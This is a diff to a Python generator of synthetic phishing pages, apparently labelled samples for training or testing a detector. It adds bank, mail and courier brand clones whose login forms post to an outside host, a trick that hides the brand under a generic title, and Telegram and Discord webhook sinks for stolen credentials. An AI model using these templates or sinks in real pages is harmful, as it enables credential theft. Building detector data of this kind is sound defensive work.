@@ -25,6 +25,7 @@ import base64
 import hashlib
 import os
 import random
+import re
 import sys
 import tempfile
 
@@ -2551,12 +2552,25 @@ def ph3_page(g, title, brand, form_open, script, pass_id):
                pass_id, pass_id, r.choice(["Sign in", "Next", "Log On", "Continue"]), claim, script))
 
 
+PH3_MORE_BRANDS = ["Hotmail", "Yandex", "GMX", "Zoho Mail", "Xfinity", "AT&T Mail", "UPS", "DPD", "Canada Post", "PostNL",
+                   "Lloyds Bank", "NatWest", "TD Bank", "Scotiabank", "ING", "Sparkasse"]
+
+
 def p3_html_form_external(g):
     """A static brand clone whose form posts straight to another host."""
     r = g.rng
     title, brand = r.choice(PH3_BRANDS)
     form = "<form method=\"%s\" action=\"%s\" id=\"lf\">" % (r.choice(["post", "POST"]), ph3_host(g))
-    return ph3_page(g, title, brand, form, "", r.choice(["password", "passwd", "pass", "i0118", "pwd"]))
+    page = ph3_page(g, title, brand, form, "", r.choice(["password", "passwd", "pass", "i0118", "pwd"]))
+    if r.random() < 0.4:  # the brand only in a heading or a "Sign in to ..." line, under a generic title
+        g.transforms.add("heading-claim")
+        b = r.choice(PH3_MORE_BRANDS)
+        page = page.replace("<title>%s</title>" % title, "<title>%s</title>" % r.choice(["Sign in", "Login", "Verify"]))
+        page = re.sub(r"<p class=\"foot\">.*?</p>|<p>Use your .*?</p>|<footer>.*?</footer>", "", page)
+        page = page.replace("<h2>", r.choice(["<h1>%s</h1>\n<h2>" % b, "<p>Sign in to your %s account</p>\n<h2>" % b,
+                                              "<h1 class=\"brand\">%s Online</h1>\n<h2>" % b]), 1)
+        page = page.replace("alt=\"%s\"" % brand, "alt=\"logo\"")
+    return page
 
 
 PH3_SINKS = ["https://api.telegram.org/bot%d:AAH%s/sendMessage", "https://discord.com/api/webhooks/%d/%s",
@@ -2749,7 +2763,7 @@ def pb3_social_login_page(g):
                         ["https://www.acme-tools.example/login", "https://app.acme-tools.example/session", "/login"]),
                     "", "password")
     return page.replace("<h2>", "<a class=\"btn\" href=\"/auth/%s\">Sign in with %s</a>\n<p>Use your %s account or your "
-                        "Acme password.</p>\n<h2>" % (b.lower(), b, b), 1)
+                        "Acme password.</p>\n<h3>Continue with %s</h3>\n<h2>" % (b.lower(), b, b, b), 1)
 
 
 def pb3_newsletter_provider(g):
